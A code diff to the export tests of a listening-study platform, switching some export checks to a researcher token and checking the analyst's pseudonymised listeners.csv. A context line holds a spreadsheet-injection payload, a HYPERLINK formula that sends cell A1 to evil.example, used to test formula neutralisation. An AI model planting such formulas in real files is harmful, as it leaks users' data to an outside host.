@@ -23,6 +23,8 @@ const FORMULA_PID = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
 
 let server: TestServer;
 let analyst: string;
+/** The export with the link parameters is the researcher's (docs/security.md, "Roles"); analysts get a pseudonym instead. */
+let researcher: string;
 let dir: string;
 
 interface Listener {
@@ -86,6 +88,7 @@ beforeAll(async () => {
   dir = await mkdtemp(join(tmpdir(), 'earmark-live-offline-'));
   server = await startTestServer({ studies: [{ study: STUDY, pairs: 8, attention: 2, practice: 1 }] });
   analyst = (await server.app.store.accessTokens.create('analyst')).token;
+  researcher = (await server.app.store.accessTokens.create('researcher')).token;
   // Every exclusion rule on, and a split threshold other than the default.
   const db = server.app.db;
   const stored = JSON.parse((db.prepare('SELECT definition FROM studies WHERE id = ?').get(STUDY) as { definition: string }).definition);
@@ -166,7 +169,7 @@ describe('live report = npm run analyze on the export', () => {
     const cliDir = join(dir, 'cli');
     const r = await run('npm', ['run', '--silent', 'export', '--', STUDY, cliDir, '--data', server.dataDir]);
     expect(r.stdout).toMatch(/Wrote \d+ items, \d+ votes, \d+ judge scores, 11 listeners/);
-    const api = (await call(`${server.url}/api/studio/studies/${STUDY}/export`, { token: analyst })).body as Record<string, string>;
+    const api = (await call(`${server.url}/api/studio/studies/${STUDY}/export`, { token: researcher })).body as Record<string, string>;
     expect((await readdir(cliDir)).sort()).toEqual(Object.keys(api).sort());
     for (const [name, text] of Object.entries(api)) {
       const written = await readFile(join(cliDir, name), 'utf8');
@@ -190,7 +193,7 @@ describe('live report = npm run analyze on the export', () => {
   });
 
   it('listeners.csv lists every session with its link parameters, spreadsheet formulas neutralised and read back intact', async () => {
-    const api = (await call(`${server.url}/api/studio/studies/${STUDY}/export`, { token: analyst })).body as Record<string, string>;
+    const api = (await call(`${server.url}/api/studio/studies/${STUDY}/export`, { token: researcher })).body as Record<string, string>;
     const lines = api['listeners.csv'].split('\r\n');
     expect(lines[0]).toBe('listener_id,started_at,completed_at,screening,PROLIFIC_PID,STUDY_ID,completion_code');
     expect(lines).toHaveLength(Object.keys(LISTENERS).length + 2);
@@ -386,6 +389,11 @@ describe('a rating study: live report = npm run analyze on the export', () => {
     const r = await run('npm', ['run', '--silent', 'export', '--', MOS, cliDir, '--data', mos.dataDir]);
     expect(r.stdout).toMatch(/Wrote 11 items, 66 votes, \d+ judge scores, 6 listeners/);
     expect((await readdir(cliDir)).sort()).toEqual(Object.keys(files).sort());
-    for (const [name, text] of Object.entries(files)) if (name !== 'study.json') expect(await readFile(join(cliDir, name), 'utf8'), name).toBe(text);
+    // The CLI's export is the researcher's: the analyst's differs in listeners.csv only (a pseudonym for the link parameters).
+    const researcherFiles = (await call(`${mos.url}/api/studio/studies/${MOS}/export`, { token: (await mos.app.store.accessTokens.create('researcher')).token })).body as Record<string, string>;
+    for (const [name, text] of Object.entries(researcherFiles)) {
+      if (name !== 'study.json') expect(await readFile(join(cliDir, name), 'utf8'), name).toBe(text);
+      if (name !== 'study.json' && name !== 'listeners.csv') expect(files[name], name).toBe(text);
+    }
   });
 });
